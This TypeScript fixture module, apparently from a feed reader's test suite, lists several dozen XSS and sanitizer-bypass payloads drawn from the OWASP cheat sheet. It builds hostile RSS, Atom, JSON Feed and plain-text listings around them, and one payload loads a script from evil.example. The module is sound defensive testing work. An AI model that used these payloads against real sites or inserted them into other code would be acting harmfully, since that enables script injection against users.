/**
 * Script payloads a hostile feed or listing may carry, after the OWASP XSS filter evasion cheat sheet and
 * the mXSS / sanitizer-bypass classics (namespace confusion, noscript, nested CDATA, obfuscated schemes).
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p/onmouseover=alert(1)>x</p>',
  '<img """><script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "javascript:alert(1)";</style>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
];

/** Links a hostile feed may give its items: none may be published as a link. */
export const SCRIPT_LINKS: readonly string[] = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

/** XML-escapes text for element content or a double-quoted attribute. */
export function xmlEscape(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** Wraps text in CDATA, splitting every "]]>" the way XML requires. */
export function cdata(text: string): string {
  return `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;
}

/** An RSS 2.0 document carrying every payload in titles, descriptions, content and links. */
export function hostileRss(): string {
  const items = SCRIPT_PAYLOADS.map((payload, i) => {
    const link = SCRIPT_LINKS[i % SCRIPT_LINKS.length]!;
    return `<item>
  <title>${i % 2 === 0 ? cdata(`Title ${i} ${payload}`) : xmlEscape(`Title ${i} ${payload}`)}</title>
  <link>${xmlEscape(link)}</link>
  <guid isPermaLink="false">rss-${i}</guid>
  <description>${i % 2 === 0 ? xmlEscape(`Summary ${i} ${payload}`) : cdata(`Summary ${i} ${payload}`)}</description>
  <content:encoded>${cdata(`<p>Body ${i}</p>${payload}<p>end</p>`)}</content:encoded>
  <author>x@example.com (${xmlEscape(`Author ${payload}`)})</author>
  <category>${xmlEscape(`cat ${payload}`)}</category>
  <pubDate>Mon, 02 Mar 2026 10:${String(i % 60).padStart(2, '0')}:00 GMT</pubDate>
</item>`;
  });
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>${xmlEscape('Hostile <script>alert(1)</script>')}</title><link>javascript:alert(1)</link>
<description>hostile</description>
${items.join('\n')}
</channel></rss>`;
}

/** An Atom document carrying every payload in text, html and xhtml constructs and in link hrefs. */
export function hostileAtom(): string {
  const entries = SCRIPT_PAYLOADS.map((payload, i) => {
    const link = SCRIPT_LINKS[i % SCRIPT_LINKS.length]!;
    return `<entry>
  <id>urn:hostile:atom:${i}</id>
  <title type="html">${xmlEscape(`Atom ${i} ${payload}`)}</title>
  <link rel="alternate" href="${xmlEscape(link)}"/>
  <updated>2026-03-02T10:00:00Z</updated>
  <summary type="html">${xmlEscape(`Atom summary ${i} ${payload}`)}</summary>
  <content type="html">${xmlEscape(`<p>Atom body ${i}</p>${payload}`)}</content>
  <author><name>${xmlEscape(`Name ${payload}`)}</name></author>
</entry>`;
  });
  return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Hostile Atom</title><id>urn:hostile:atom</id>
<updated>2026-03-02T10:00:00Z</updated>
${entries.join('\n')}
</feed>`;
}

/** A JSON Feed carrying every payload in titles, summaries, content_html and urls. */
export function hostileJsonFeed(): string {
  return JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title: 'Hostile <script>alert(1)</script>',
    home_page_url: 'javascript:alert(1)',
    items: SCRIPT_PAYLOADS.map((payload, i) => ({
      id: `json-${i}`,
      url: SCRIPT_LINKS[i % SCRIPT_LINKS.length],
      external_url: 'javascript:alert(2)',
      title: `JSON ${i} ${payload}`,
      summary: `JSON summary ${i} ${payload}`,
      content_html: `<p>JSON body ${i}</p>${payload}`,
      date_published: '2026-03-02T10:00:00Z',
      authors: [{ name: `Name ${payload}`, url: 'javascript:alert(3)' }],
      tags: [`tag ${payload}`],
    })),
  });
}

/** A seed listing whose headlines and summaries are payloads (listings are plain text, so they must come out as text). */
export function hostileListing(): string {
  return SCRIPT_PAYLOADS.map(
    (payload, i) =>
      `Headline number ${i} says ${payload} today\n\nA summary paragraph for story ${i} that carries ` +
      `${payload} and goes on long enough to read as a teaser. Jane Doe reports.`,
  ).join('\n\n');
}
